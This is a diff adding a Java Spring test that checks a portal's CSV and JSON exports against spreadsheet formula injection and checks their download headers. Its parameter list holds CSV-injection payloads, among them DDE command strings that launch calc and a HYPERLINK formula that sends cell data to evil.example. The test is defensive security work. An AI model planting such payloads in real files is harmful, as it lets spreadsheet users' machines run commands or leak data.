@@ -1,0 +1,150 @@
+package tandem.portal.attack;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.authentication;
+import static org.springframework.security.test.web.servlet.setup.SecurityMockMvcConfigurers.springSecurity;
+import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
+
+import java.nio.charset.StandardCharsets;
+import java.util.Map;
+import java.util.TreeSet;
+import java.util.regex.Pattern;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVParser;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.mock.web.MockHttpServletResponse;
+import org.springframework.test.web.servlet.MockMvc;
+import org.springframework.test.web.servlet.setup.MockMvcBuilders;
+import org.springframework.transaction.annotation.Transactional;
+import org.springframework.web.context.WebApplicationContext;
+import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
+import tandem.portal.OwnerDb;
+import tandem.portal.PortalTest;
+import tandem.portal.identity.SignIn;
+
+/// Every file the portal hands out, with every text anybody could have written turned into a
+// formula
+/// or a second line. A file that is new has to be named here.
+@PortalTest
+@Transactional
+class ExportAttackTest {
+  /// Who gets it; CSV files are read cell by cell, others are looked at as a whole.
+  private static final Map<String, String> FILES =
+      Map.of(
+          "/people/completion.csv", "petra.lang@kessler.example",
+          "/account/data.json", "anna.brandt@kessler.example");
+
+  private static final Pattern A_FILE = Pattern.compile(".*\\.(?!html)[a-z]{2,5}");
+  private static final Pattern FORMULA =
+      Pattern.compile("^[\\s]*[=+\\-@].*|^[\\t\\r\\n].*", Pattern.DOTALL);
+
+  @Autowired WebApplicationContext web;
+  @Autowired RequestMappingHandlerMapping endpoints;
+  @Autowired OwnerDb db;
+  private MockMvc portal;
+
+  @BeforeEach
+  void connect() {
+    portal = MockMvcBuilders.webAppContextSetup(web).apply(springSecurity()).build();
+  }
+
+  @Test
+  void every_file_there_is_stands_here() {
+    var found = new TreeSet<String>();
+    endpoints
+        .getHandlerMethods()
+        .forEach(
+            (mapping, handler) ->
+                mapping.getPatternValues().stream()
+                    .filter(
+                        pattern ->
+                            A_FILE.matcher(pattern).matches()
+                                || mapping.getProducesCondition().getProducibleMediaTypes().stream()
+                                    .anyMatch(
+                                        type ->
+                                            !type.isCompatibleWith(
+                                                org.springframework.http.MediaType
+                                                    .APPLICATION_JSON)))
+                    .forEach(found::add));
+    assertThat(found).isEqualTo(new TreeSet<>(FILES.keySet()));
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "=cmd|' /C calc'!A0",
+        "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")",
+        "+1+cmd|' /C calc'!A0",
+        "-1+1",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        " =1+1",
+        "\u00a0=1+1",
+        "\uff1d1+1",
+        "\uff0b1+1",
+        "x\n=1+1",
+        "\";=1+1;\"",
+        "%0A=1+1"
+      })
+  void no_text_becomes_a_formula_or_a_second_row(String text) throws Exception {
+    int rows = csv(file("/people/completion.csv")).size();
+    db.execute(
+        "update identity.person set given_name = ?, family_name = ?, external_id = ? ||"
+            + " right(id::text, 6) where company_id = '01900000-0000-7000-8000-0000000c0001'",
+        text,
+        text,
+        text);
+    db.execute(
+        "update alliance.membership set team = ?, region = ? where role = 'SELLER'", text, text);
+    db.execute(
+        "update learning.module_version set title = jsonb_build_object('de', ?::text, 'en',"
+            + " ?::text)",
+        text,
+        text);
+    var written = csv(file("/people/completion.csv"));
+    assertThat(written).hasSize(rows);
+    for (var row : written) {
+      for (String cell : row) {
+        assertThat(cell)
+            .doesNotMatch(FORMULA)
+            .doesNotStartWith("\uff1d")
+            .doesNotStartWith("\uff0b");
+      }
+    }
+  }
+
+  @Test
+  void every_file_is_handed_out_as_a_file_and_kept_by_nobody() throws Exception {
+    for (String path : FILES.keySet()) {
+      MockHttpServletResponse answer = file(path);
+      assertThat(answer.getHeader("Content-Disposition")).as(path).startsWith("attachment");
+      assertThat(answer.getHeader("Cache-Control")).as(path).contains("no-store");
+    }
+  }
+
+  private static java.util.List<org.apache.commons.csv.CSVRecord> csv(MockHttpServletResponse file)
+      throws Exception {
+    String text = file.getContentAsString(StandardCharsets.UTF_8).replaceFirst("^\uFEFF", "");
+    String first = text.lines().findFirst().orElse("");
+    try (var parser =
+        CSVParser.parse(
+            text,
+            CSVFormat.RFC4180.builder().setDelimiter(first.contains(";") ? ';' : ',').get())) {
+      return parser.getRecords();
+    }
+  }
+
+  private MockHttpServletResponse file(String path) throws Exception {
+    var person = SignIn.as(db, FILES.getOrDefault(path, ""));
+    return portal
+        .perform(get(path).with(authentication(SignIn.authentication(person))))
+        .andReturn()
+        .getResponse();
+  }
+}
